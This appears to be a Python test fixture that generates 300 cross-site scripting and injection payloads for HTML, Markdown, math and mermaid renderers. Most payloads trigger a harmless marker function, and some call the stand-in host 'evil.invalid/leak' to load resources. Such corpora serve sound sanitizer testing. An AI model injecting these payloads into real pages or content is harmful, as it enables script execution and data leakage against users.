"""Three hundred texts that try to run a script or to call another machine when they are shown.

Each one, if it ran, would call `hit()` or ask `evil.invalid` for something.
"""

# ruff: noqa: E501
from __future__ import annotations

from itertools import product

RUN = "hit()"
AWAY = "http://evil.invalid/leak"

TAGS = [
    f"<script>{RUN}</script>",
    f"<script src={AWAY}.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{AWAY}.png">',
    f'<img src=x:x onerror="javascript:{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><maction actiontype='statusline#{AWAY}' xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={AWAY}></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster={AWAY}.png autoplay src={AWAY}.mp4></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<style>@import '{AWAY}.css';</style>",
    f"<style>*{{background:url({AWAY}.png)}}</style>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<link rel=preload as=image href={AWAY}.png>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}/>",
    f"<form action={AWAY}><button autofocus>x</button></form>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<div style='background:url({AWAY}.png)'>x</div>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
]
MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    f"[x](<javascript:{RUN}>)",
    f"<javascript:{RUN}>",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f"[x](http://a.invalid 'x\" onmouseover={RUN} y=\"')",
    f'[x](http://a.invalid" onmouseover={RUN} ")',
    f"![x]({AWAY}.png)",
    f"![x][p]\n\n[p]: {AWAY}.png",
    f'![x" onerror="{RUN}](x)',
    f"![](javascript:{RUN})",
    f"[![x]({AWAY}.png)]({AWAY})",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```',
    f"```x onmouseover={RUN}\nx\n```",
    f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"]-->B; click A "javascript:{RUN}"\n```',
    f"~~~ <img src=x onerror={RUN}>\nx\n~~~",
    f"`<img src=x onerror={RUN}>`",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\includegraphics{{{AWAY}.png}}$$",
    f"$\\htmlStyle{{background:url({AWAY}.png)}}{{x}}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f"$\\url{{javascript:{RUN}}}$",
    f'$\\htmlData{{x="onload={RUN}"}}{{x}}$',
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <svg onload={RUN}> | y |",
    f"- [ ] <img src=x onerror={RUN}>",
    f"# <img src=x onerror={RUN}>",
    f"> <script>{RUN}</script>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\<script\\>{RUN}\\</script\\>",
    f"**<img src=x onerror={RUN}>**",
    f"[<img src=x onerror={RUN}>](http://a.invalid)",
    f"[1]<img src=x onerror={RUN}>[2]",
]
PLAIN = [
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' onmouseover={RUN} '",
    f"javascript:{RUN}",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "#{hit()}",
    "<%= hit() %>",
    f"\u2028{RUN}\u2028",
    f"\u0000<img src=x onerror={RUN}>",
    "\u202e>)(tih=rorreno x=crs gmi<",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"*/{RUN}/*",
]
WRAPPERS = [("a ", " b"), ("x\n\n", "\n\ny"), ("*", "*"), ("1. ", "")]

BARE = [*TAGS, *MARKDOWN, *PLAIN]
WRAPPED = [before + text + after for (before, after), text in product(WRAPPERS, [*TAGS, *MARKDOWN])]
PAYLOADS = [*BARE, *WRAPPED][:300]
